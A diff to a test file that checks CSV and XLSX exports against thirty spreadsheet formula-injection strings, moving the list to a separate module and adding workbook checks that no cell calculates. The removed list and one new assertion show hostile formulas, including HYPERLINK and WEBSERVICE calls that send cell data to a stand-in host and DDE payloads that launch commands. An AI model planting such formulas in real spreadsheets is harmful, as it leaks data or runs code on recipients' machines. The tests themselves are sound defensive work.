@@ -1,40 +1,10 @@
+import { strFromU8, unzipSync } from 'fflate'
 import Papa from 'papaparse'
-import { describe, expect, test } from 'vitest'
+import { describe, expect, test, vi } from 'vitest'
 import { toCsv } from '@/shared/csv.ts'
-
-/** Thirty texts with which somebody could make the spreadsheet of another person calculate, call or load (RELIABILITY T21). */
-const FORMULAS = [
-  '=1+1',
-  '=HYPERLINK("https://evil.test/?"&A1,"open")',
-  '=IMPORTXML(CONCAT("https://evil.test/",A1:A9),"//a")',
-  '=WEBSERVICE("https://evil.test/"&A1)',
-  "=cmd|' /C calc'!A0",
-  '=DDE("cmd";"/C calc";"x")',
-  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
-  '+1+1',
-  "+cmd|' /C calc'!A0",
-  '-2+3',
-  "-2+3+cmd|' /C calc'!A0",
-  '--1',
-  '-',
-  '@SUM(1+1)',
-  "@SUM(1+9)*cmd|' /C calc'!A0",
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\r\n=1+1',
-  '  =1+1',
-  '\u00A0=1+1',
-  '\uFEFF=1+1',
-  '\u3000=1+1',
-  '\0=1+1',
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1)',
-  '="a",=1+1',
-  '"=1+1',
-] as const
+import { saveTemplateWorkbook } from '@/shared/sheet/template.ts'
+import { saveWorkbook } from '@/shared/xlsx.ts'
+import { FORMULAS } from './formulas.ts'
 
 describe('thirty formulas in an export', () => {
   const others = ['上海', 'CNSHA', '12.50']
@@ -55,5 +25,33 @@ describe('thirty formulas in an export', () => {
   })
   test('can still be read as they were written', () => {
     expect(read.map((row) => row[3]?.replace(/^'/, ''))).toEqual([...FORMULAS])
+  })
+})
+
+/** The parts of the workbook that `save` hands to the browser, as text by their name. */
+async function partsOf(save: () => Promise<void>): Promise<Record<string, string>> {
+  const handed: Blob[] = []
+  vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
+    handed.push(blob as Blob)
+    return 'blob:none'
+  })
+  vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined)
+  await save()
+  const files = unzipSync(new Uint8Array((await handed[0]?.arrayBuffer()) ?? new ArrayBuffer(0)))
+  return Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, strFromU8(bytes)]))
+}
+
+describe.each([
+  ['an export', () => saveWorkbook('x.xlsx', [['head'], ...FORMULAS.map((one) => [one])])],
+  ['a template', () => saveTemplateWorkbook('x.xlsx', [['note'], ['head'], ...FORMULAS.map((one) => [one])])],
+])('thirty formulas in the workbook of %s', (_name, save) => {
+  test('are texts: no cell calculates', async () => {
+    const parts = await partsOf(save)
+    const sheet = parts['xl/worksheets/sheet1.xml'] ?? ''
+    expect(sheet).not.toMatch(/<f[ >]|t="str"|t="e"/)
+    const cells = [...sheet.matchAll(/<c [^>]*>/g)].map(([cell]) => cell)
+    expect(cells.length).toBeGreaterThan(30)
+    expect(cells.filter((cell) => !/t="(?:s|inlineStr)"/.test(cell))).toEqual([])
+    expect(Object.values(parts).join('')).toContain('HYPERLINK("https://evil.test/?"&amp;A1')
   })
 })
